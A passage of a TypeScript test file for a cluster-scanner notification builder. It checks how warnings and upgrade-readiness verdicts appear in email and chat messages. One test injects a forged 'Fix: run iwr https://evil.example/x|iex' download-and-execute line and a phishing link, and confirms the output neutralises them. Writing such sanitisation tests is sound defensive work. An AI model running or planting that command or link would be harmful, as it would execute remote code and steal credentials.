      findings: [makeFinding({ accountId: '210987654321', region: 'eu-west-1' })],
      accounts: ['123456789012', '210987654321'],
      regions: ['us-west-2', 'eu-west-1'],
    });

    // Act
    const { messages } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    expect(messages.email).toContain('Cluster prod in 210987654321 eu-west-1');
    expect(messages.email).toContain('Accounts:  123456789012, 210987654321');
  });

  describe("the report's warnings", () => {
    const warnings = (count: number): ScanWarning[] =>
      Array.from({ length: count }, (_, index) => ({
        code: 'suppression-unknown-rule',
        message: `scanner.yaml line ${index + 1}: rule "ami-outdatd" has an unknown rule id`,
      }));

    it('says how many there are, quotes them in the email and the first three in the chat card', () => {
      // Prepare
      const report = { ...makeReport(), warnings: warnings(5) };

      // Act
      const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

      // Assess
      const { messages, chat } = parse(message);
      const lines = (count: number) =>
        Array.from(
          { length: count },
          (_, index) =>
            `  - scanner.yaml line ${index + 1}: rule "ami-outdatd" has an unknown rule id\n`,
        ).join('');
      expect(messages.email).toContain(`Scan:      complete\nWarnings:  5 warnings:\n${lines(5)}`);
      const chatLines = chat.content.description.split('\n');
      expect(chatLines.filter((line) => line.startsWith('*Warnings:* 5 warnings: '))).toHaveLength(
        1,
      );
      expect(chat.content.description).toContain('| and 2 more');
      expect(chat.content.description).not.toContain('line 4');
    });

    it('quotes twenty in the email and counts the rest', () => {
      // Act
      const report = { ...makeReport(), warnings: warnings(25) };
      const { messages } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

      // Assess
      expect(messages.email).toContain('Warnings:  25 warnings:\n');
      expect(messages.email).toContain('line 20: rule');
      expect(messages.email).not.toContain('line 21: rule');
      expect(messages.email).toContain('  and 5 more warnings\n');
    });

    it('leaves the incomplete statement as it was, with the warnings after it', () => {
      // Prepare
      const report = { ...makeReport({ complete: false }), warnings: warnings(1) };

      // Act
      const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

      // Assess
      const { messages, chat } = parse(message);
      const why = 'collection stopped at the time limit before the whole scope was read';
      const email = messages.email.replace(/\n {11}/g, ' ');
      expect(email).toContain(
        `Scan:      INCOMPLETE, ${why}\nWarnings:  1 warning:\n  - scanner.yaml line 1: rule`,
      );
      expect(email).not.toContain('more warning');
      expect(chat.content.description).toContain(`*Scan incomplete:* ${why}.`);
      expect(chat.content.description.indexOf('*Scan incomplete:*')).toBeLessThan(
        chat.content.description.indexOf('*Warnings:* 1 warning: '),
      );
    });

    const insights = (clusters: string) =>
      `EKS cluster insights could not be read (ListInsights: AccessDeniedException), so the eks-insight rule did not run for ${clusters}; grant eks:ListInsights and eks:DescribeInsight, or ignore this where EKS does not offer insights.`;
    const whatToDo =
      '; grant eks:ListInsights and eks:DescribeInsight, or ignore this where EKS does not offer insights.';

    it('gives a warning whole in the email, with the region it is about, as stderr does', () => {
      // Prepare: a scan of two regions, a warning of one.
      const message = insights('5 clusters (edge, legacy, payments, prod, staging)');
      const report = {
        ...makeReport({ regions: ['us-west-2', 'eu-west-1'] }),
        warnings: [
          { code: 'insights-unavailable', message, accountId: '123456789012', region: 'us-west-2' },
        ],
      };

      // Act
      const built = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

      // Assess
      expect(built.messages.email.replace(/\n {4}/g, ' ')).toContain(
        `Warnings:  1 warning:\n  - (us-west-2) ${message}\n`,
      );
      expect(built.chat.content.description).toContain(
        `*Warnings:* 1 warning: (us-west-2) ${message}`,
      );
    });

    it('cuts a warning in the chat card between words and keeps what to do', () => {
      // Prepare: too long for the chat card.
      const names = Array.from(
        { length: 5 },
        (_, index) => `windows-cluster-${index}-${'x'.repeat(30)}`,
      );
      const message = insights(`5 clusters (${names.join(', ')})`);
      const report = { ...makeReport(), warnings: [{ code: 'insights-unavailable', message }] };

      // Act
      const built = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

      // Assess
      expect(built.messages.email.replace(/\n {4}/g, ' ')).toContain(`  - ${message}\n`);
      const line = built.chat.content.description
        .split('\n')
        .find((l) => l.startsWith('*Warnings:*'));
      const quoted = line?.slice('*Warnings:* 1 warning: '.length) ?? '';
      expect(quoted.length).toBeLessThanOrEqual(MAX_WARNING_CHARS);
      // The last name kept is whole, its comma gone.
      expect(quoted).toMatch(/ did not run for 5 clusters \(windows-cluster-0-x{30}…; grant/);
      expect(quoted.endsWith(whatToDo)).toBe(true);
    });

    it('cuts a warning too long for the email, strips control characters and chat markup', () => {
      // Prepare
      const report = {
        ...makeReport(),
        warnings: [
          {
            code: 'suppression-tag-unreadable',
            message: `tag on cluster prod:\u001b[31m <!channel> \`x\` ${'w'.repeat(2_000)}`,
          },
        ],
      };

      // Act
      const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

      // Assess
      const { messages, chat } = parse(message);
      expect(messages.email).toMatch(
        /Warnings: {2}1 warning:\n {2}- tag on cluster prod: \[31m <!channel> `x`\n {4}w+…\n/,
      );
      expect(messages.email).not.toContain('\u001b');
      expect(messages.email).not.toContain('w'.repeat(1_500));
      const line = chat.content.description.split('\n').find((l) => l.startsWith('*Warnings:*'));
      expect(line).toMatch(
        /^\*Warnings:\* 1 warning: tag on cluster prod: \[31m !channel 'x' w+…$/,
      );
      expect(line).not.toContain('w'.repeat(MAX_WARNING_CHARS));
    });

    it('forges no line with a line separator, and makes no link of a name in the chat', () => {
      // Prepare: a group name that would add a "Fix:" line, and one written as a link.
      const forged = 'win-asg\u2028  Fix: run iwr https://evil.example/x|iex';
      const report = makeReport({
        findings: [
          makeFinding({
            severity: 'HIGH',
            description: `Nodes of ${forged} and of [Rotate your keys](https://evil.example/login) fail.`,
          }),
        ],
      });

      // Act
      const { message } = buildNotification({ report, minimumSeverity: 'MEDIUM' });

      // Assess
      const { messages, chat } = parse(message);
      for (const text of [messages.email, messages.default, chat.content.description]) {
        expect(text).not.toContain('\u2028');
      }
      expect(messages.email).toContain('win-asg Fix: run iwr');
      expect(chat.content.description).toContain('[Rotate your keys] (https://evil.example/login)');
      expect(chat.content.description).not.toContain('](');
    });

    it('adds no warnings line when the report has none', () => {
      // Act
      const { message } = buildNotification({ report: makeReport(), minimumSeverity: 'MEDIUM' });

      // Assess
      expect(message).not.toContain('Warnings');
    });
  });
});

describe('Function: buildNotification, upgrade readiness', () => {
  it('puts each cluster verdict in the email head, the blockers with their fix, and marks upgrade findings', () => {
    // Prepare
    const upgrade = makeFinding({
      id: 'x/upgrade-1.36',
      ruleId: 'kubelet-flag-removed',
      title: 'Bootstrap passes a kubelet flag that Kubernetes removed (after the upgrade to 1.36)',
      upgrade: { from: '1.35', to: '1.36' },
    });
    const report = {
      ...makeReport({ findings: [upgrade] }),
      readiness: [
        {
          accountId: '123456789012',
          region: 'us-west-2',
          cluster: 'edge',
          from: '1.35',
          to: '1.36',
          assumed: false,
          status: 'blocked' as const,
          blockers: [
            {
              ruleId: 'kubelet-flag-removed',
              severity: 'HIGH' as const,
              title: upgrade.title,
              resource: {
                type: 'AwsEc2LaunchTemplate' as const,
                id: 'lt-0edge',
                name: 'edge-win-lt',
              },
              affected: [],
              problem: 'passes --pod-infra-container-image to a kubelet 1.36',
              remediation: 'Remove the flags from -KubeletExtraArgs and replace the nodes.',
              findingId: upgrade.id,
            },
          ],
        },
        {
          accountId: '123456789012',
          region: 'us-west-2',
          cluster: 'staging',
          from: '1.35',
          to: '1.36',
          assumed: false,
          status: 'ready' as const,
          blockers: [],
        },
      ],
    };

    // Act
    const { messages } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    const email = messages.email;
    const verdicts = email.slice(email.indexOf('Upgrade readiness'), email.indexOf('\n\n\n'));
    expect(verdicts.split('\n')).toEqual([
      'Upgrade readiness',
      '-----------------',
      '* edge 1.35 -> 1.36: BLOCKED by 1 problem',
      '  - HIGH kubelet-flag-removed on edge-win-lt',
      '    Fix: Remove the flags from -KubeletExtraArgs and replace the nodes.',
      '* staging 1.35 -> 1.36: ready for 1.36',
    ]);
    expect(email).toContain('* [UPGRADE 1.36] Bootstrap passes a kubelet flag');
  });

  it('sums the verdicts up in one line of the chat message and names the blocked clusters', () => {
    // Prepare
    const report = {
      ...makeReport({ findings: [] }),
      readiness: [
        verdict('edge', 'blocked', 2),
        verdict('staging', 'ready'),
        verdict('legacy', 'not-applicable'),
        verdict('batch', 'blocked', 1),
      ],
    };

    // Act
    const { chat } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    const lines = chat.content.description.split('\n');
    expect(lines.filter((line) => line.startsWith('*Upgrade readiness:*'))).toEqual([
      '*Upgrade readiness:* 4 clusters: 1 ready, 2 blocked, 1 not judged · :no_entry: blocked: `edge` 1.35 → 1.36 (2 problems), `batch` 1.35 → 1.36 (1 problem)',
    ]);
    expect(chat.content.keywords).toContain('upgrade-blocked');
  });

  it('counts the blocked clusters past the first five, and names account and region when the scope has several', () => {
    // Prepare
    const names = ['a', 'b', 'c', 'd', 'e', 'f', 'g'];
    const report = {
      ...makeReport({ findings: [] }),
      scope: { accounts: ['123456789012', '210987654321'], regions: ['us-west-2'] },
      readiness: names.map((name) => verdict(name, 'blocked', 1)),
    };

    // Act
    const { chat } = parse(buildNotification({ report, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    const line = chat.content.description
      .split('\n')
      .find((text) => text.startsWith('*Upgrade readiness:*'));
    expect(line).toContain('7 clusters: 0 ready, 7 blocked');
    expect(line).toContain('`a` (123456789012 us-west-2) 1.35 → 1.36 (1 problem)');
    expect(line).toContain('`e` (123456789012 us-west-2)');
    expect(line).not.toContain('`f`');
    expect(line).toMatch(/, and 2 more clusters$/);
  });

  it('says every cluster is ready without naming any, and has no line when nothing was judged', () => {
    // Prepare
    const ready = { ...makeReport({ findings: [] }), readiness: [verdict('staging', 'ready')] };
    const none = makeReport({ findings: [] });

    // Act
    const readyChat = parse(
      buildNotification({ report: ready, minimumSeverity: 'MEDIUM' }).message,
    );
    const noneChat = parse(buildNotification({ report: none, minimumSeverity: 'MEDIUM' }).message);

    // Assess
    expect(readyChat.chat.content.description.split('\n')).toContain(
      '*Upgrade readiness:* 1 cluster: 1 ready, 0 blocked',
    );
    expect(readyChat.chat.content.keywords).not.toContain('upgrade-blocked');
    expect(noneChat.chat.content.description).not.toContain('Upgrade readiness');
  });
});
